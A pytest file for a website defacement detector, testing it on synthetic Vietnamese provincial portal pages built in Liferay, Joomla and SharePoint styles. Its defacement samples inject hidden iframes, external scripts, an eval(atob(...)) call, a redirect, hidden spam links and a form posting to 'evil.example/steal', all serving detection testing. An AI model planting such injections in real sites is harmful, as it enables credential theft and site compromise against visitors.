"""Pages as the usual portal systems write them: a thousand looks raise nothing, any defacement does."""

# ruff: noqa: E501, SIM905 - pages stand here as systems send them

import random
from collections.abc import Callable

import pytest

from tests.collectors.portals.pages import Watched

WORDS = (
    "ủy ban nhân dân tỉnh họp công bố quyết định thủ tục hành chính mới đăng ký hồ sơ trực tuyến người dân doanh nghiệp "
    "kết quả hội nghị chuyển đổi số lịch tiếp công dân lãnh đạo sở thông tin huyện xã khai trương cầu đường trường học"
).split()
DAYS = ("Thứ Hai", "Thứ Ba", "Thứ Tư", "Thứ Năm", "Thứ Sáu", "Thứ Bảy", "Chủ nhật")


class State:
    """What changes on a page from look to look: the clock always, the news now and then."""

    def __init__(self, seed: int) -> None:
        self.random = random.Random(seed)
        self.look = 0
        self.news = [self.headline() for _ in range(12)]

    def headline(self) -> str:
        return " ".join(self.random.sample(WORDS, 9)).capitalize()

    def next(self) -> None:
        self.look += 1
        if self.random.random() < 0.15:
            self.news = [self.headline(), *self.news[:-1]]

    def hex(self, length: int) -> str:
        return f"{self.random.getrandbits(4 * length):0{length}x}"

    @property
    def clock(self) -> str:
        n = self.look
        return f"{DAYS[n % 7]}, ngày {1 + n % 28:02}/{1 + n % 12:02}/2026 {n % 24:02}:{n % 60:02}:{n * 7 % 60:02} GMT+7"


def liferay(s: State) -> str:
    token, banner = s.hex(8), s.random.choice(("cchc", "thue", "dichvucong", "phongchong", "apec"))
    news = "".join(
        f'<li class="news-item"><a href="/web/guest/-/asset_publisher/{s.random.randrange(10**6)}"><img '
        f'src="/documents/10182/{s.random.randrange(10**6)}/{s.hex(8)}.jpg?t={s.look}" alt="">{title}</a>'
        f"<span class=date>({s.look % 28 + 1}/11/2026)</span></li>"
        for title in s.news
    )
    return f"""<!DOCTYPE html><html class="ltr" lang="vi-VN"><head><title>Trang chủ - Cổng thông tin điện tử tỉnh</title>
<script>var Liferay=Liferay||{{}};Liferay.authToken="{token}";var themeDisplay={{getPlid:function(){{return "{s.look}"}}}};</script>
<link rel="stylesheet" href="/html/js/css.jsp?browserId=other&t={s.look}">
<script src="/combo/?browserId=other&minifierType=js&t={s.look}&/html/js/aui.js"></script></head>
<body class="yui3-skin-sam signed-out"><div id="banner"><a href="/"><img src="/image/layout_set_logo?img_id={s.look}&t={s.hex(8)}"></a></div>
<h1 class="site-title">CỔNG THÔNG TIN ĐIỆN TỬ TỈNH</h1><div class="clock">{s.clock}</div>
<ul class="menu"><li><a href="/gioi-thieu">Giới thiệu</a></li><li><a href="/van-ban">Văn bản</a><ul style="display:none">
<li>Tất cả đơn vị</li><li>Tất cả đối tượng</li></ul></li></ul>
<div class="journal-content"><ul>{news}</ul></div>
<div id="p_p_id_56_INSTANCE_{s.hex(4)}_" class="portlet banner"><a href="/chuyen-de/{banner}"><img src="/banner/{banner}.png"></a></div>
<form action="/web/guest/home?p_auth={token}&p_p_id=3" method="post"><input type=hidden name=formDate value="{1700000000000 + s.look}">
<input name=keywords></form><div class="counter">Đang truy cập: {s.random.randrange(400)} · Hôm nay: {s.random.randrange(9000)} ·
Tổng lượt truy cập: {9_000_000 + s.look * 731:,}</div>
<footer><p>Cơ quan chủ quản: Ủy ban nhân dân tỉnh. Địa chỉ: số 1 đường Hùng Vương. Điện thoại 0200 3821 821</p></footer></body></html>"""


def joomla(s: State) -> str:
    banner = s.random.choice(
        ("Chung tay cải cách hành chính", "Nộp thuế điện tử", "Phòng chống dịch bệnh", "Mừng đất nước")
    )
    news = "".join(
        f'<div class="item"><h3><a href="/index.php/tin-tuc/{s.look}-{n}">{title}</a></h3><p>Lượt xem: {s.random.randrange(10**4)}'
        f" | {s.clock}</p></div>"
        for n, title in enumerate(s.news)
    )
    return f"""<html><head><base href="https://www.tinh.example.vn/"><title>Sở Thông tin - Trang chủ</title>
<script src="/media/system/js/core.js?{s.hex(32)}"></script><script type="application/json" class="joomla-script-options new">
{{"csrf.token":"{s.hex(32)}","system.paths":{{"root":"","base":""}}}}</script><script>jQuery(function($){{ $(".hasTooltip").tooltip({{}});
$("#mod-slide").flexslider({{start:{s.look % 5}}}); }});</script></head><body><div id=header><img src="/images/logo.png"></div>
<h1>Sở Thông tin và Truyền thông</h1><div class="blog">{news}</div><div class="bannergroup"><div class="banneritem">{banner}</div></div>
<div class="mod_vvisit">Hôm nay {s.random.randrange(5000)} Tuần này {s.random.randrange(9999)} Tất cả {s.look * 991 + 10**6}
Hiện có {s.random.randrange(90)} khách và {s.random.randrange(4)} thành viên đang online</div>
<form method="post" action="/index.php"><input name="username"><input type="password" name="passwd">
<input type="hidden" name="return" value="{s.hex(40)}"><input type="hidden" name="{s.hex(32)}" value="1"></form>
<footer>Bản quyền thuộc Sở Thông tin và Truyền thông. Ghi rõ nguồn khi phát hành lại thông tin.</footer></body></html>"""


def sharepoint(s: State) -> str:
    rows = "".join(
        f'<tr class="ms-itmhover"><td>{s.look * 13 + n}/QĐ-UBND</td><td><a href="/Pages/vb.aspx?ID={n}">{title}</a></td>'
        f"<td>{n % 28 + 1:02}/11/2026</td></tr>"
        for n, title in enumerate(s.news)
    )
    return f"""<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><title>
	Trang chủ - UBND huyện
</title><script src="/WebResource.axd?d={s.hex(60)}&t={s.look}"></script><script src="/ScriptResource.axd?d={s.hex(80)}"></script>
<script>//<![CDATA[
var g_presenceEnabled = true; var _spPageContextInfo = {{webServerRelativeUrl: "/", userId:{s.look}, formDigest:"0x{s.hex(64).upper()},
{s.clock}", correlation: '{s.hex(8)}-{s.hex(4)}-{s.hex(4)}'}};
//]]></script></head><body><form method="post" action="./default.aspx" id="aspnetForm">
<input type="hidden" name="__REQUESTDIGEST" value="0x{s.hex(60)}"><input type="hidden" name="__VIEWSTATE" value="/wEP{s.hex(400)}">
<div id="s4-workspace"><div class="ms-siteicon"><a href="/"><img src="/SiteAssets/logo.png?rev={s.look}"></a></div>
<h2 class="ms-title">UBND HUYỆN</h2><span id="ctl00_{s.hex(6)}_time">{s.clock}</span>
<table class="ms-listviewtable">{rows}</table><div class="thoitiet">Nhiệt độ {s.random.randrange(15, 38)}°C, độ ẩm {s.random.randrange(50, 99)}%</div>
<div class="online">{s.random.randrange(300)} online</div><p>Trụ sở: thị trấn, huyện. Thư điện tử: ubnd@tinh.example.vn.</p></div></form></body></html>"""


PAGES = [liferay, joomla, sharepoint]
Make = Callable[[State], str]


def watched(make: Make, seed: int) -> tuple[Watched, State]:
    page, state = Watched(), State(seed)
    for _ in range(3):
        state.next()
        page.look(make(state))
    assert page.judge.memory.page.baseline is not None
    return page, state


@pytest.mark.parametrize("make", PAGES)
@pytest.mark.parametrize("seed", range(3))
def test_a_thousand_looks_raise_nothing(make: Make, seed: int) -> None:
    page, state = watched(make, seed)
    for _ in range(340):
        state.next()
        for line in page.look(make(state)):
            assert not line.get("changed"), line
            assert line["event"] != "redirect"


EVIL = "https://evil.example"
DEFACED: dict[str, Callable[[str], str]] = {
    "whole": lambda _: "<title>XYZ</title><body bgcolor=black><center><h1>Hello admin</h1><img src=/x.jpg></center>",
    "title": lambda page: page.replace("Trang chủ", "Pwnz0r team"),
    "heading": lambda page: page.replace("<h1", "<h1>We own you</h1><h1", 1).replace(
        "<h2", "<h2>We own you</h2><h2", 1
    ),
    "hidden frame": lambda page: page.replace("</body>", f'<iframe src="{EVIL}/" width=0 height=0></iframe></body>'),
    "script": lambda page: page.replace("</head>", f"<script src={EVIL}/a.js></script></head>"),
    "code": lambda page: page.replace("</head>", "<script>eval(atob('ZXZpbA=='))</script></head>"),
    "refresh": lambda page: page.replace("<head>", f'<head><meta http-equiv="refresh" content="0;url={EVIL}">'),
    "hidden links": lambda page: page.replace(
        "</body>", f'<div style="position:absolute;top:-5000px"><a href="{EVIL}">nhà cái</a></div></body>'
    ),
    "form": lambda page: page.replace("</body>", f"<form action={EVIL}/steal method=post></form></body>"),
    "logo": lambda page: page.replace("logo.png", "skull.png").replace("layout_set_logo", "skull"),
    "text": lambda page: "<p>".join(
        part if n < 2 else "Chúng tôi đã ở đây</p>" * 3 for n, part in enumerate(page.split("<p>"))
    ).replace("<a href", "<b>Chúng tôi đã ở đây và xem hết</b><b hidden><a href"),
    "sound": lambda page: page.replace("</body>", f"<audio autoplay src={EVIL}/x.mp3></audio></body>"),
}


@pytest.mark.parametrize("make", PAGES)
@pytest.mark.parametrize("kind", DEFACED)
def test_any_defacement_is_told_after_many_quiet_looks(make: Make, kind: str) -> None:
    page, state = watched(make, 7)
    for _ in range(30):
        state.next()
        page.look(make(state))
    lines = page.look(DEFACED[kind](make(state)))
    assert any(line.get("changed") for line in lines), (kind, lines)


@pytest.mark.parametrize("make", PAGES)
@pytest.mark.parametrize("where", ["<body", "<footer", "</body", "<h1", "<p>"])
def test_words_of_a_defacement_are_told_wherever_they_stand(make: Make, where: str) -> None:
    page, state = watched(make, 5)
    lines = page.look(make(state).replace(where, "<div>Hacked By Tèo &amp; friends</div>" + where, 1))
    if where in make(state):
        assert any("hacked by teo" in line.get("text_plain", "") for line in lines), lines
